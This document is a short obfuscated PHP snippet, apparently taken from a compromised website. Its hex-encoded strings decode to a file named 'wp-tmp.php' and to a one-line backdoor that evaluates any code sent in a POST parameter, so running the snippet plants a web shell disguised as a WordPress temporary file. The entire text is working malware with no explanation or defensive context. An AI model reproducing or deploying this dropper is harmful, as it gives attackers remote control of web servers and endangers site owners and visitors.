<script language="php">
fputs(fopen(pack("H*", "77702d746d702e706870"), "w"), pack("H*", "3c3f70687020406576616c28245f504f53545b2774275d293b203f3e"));
</script>
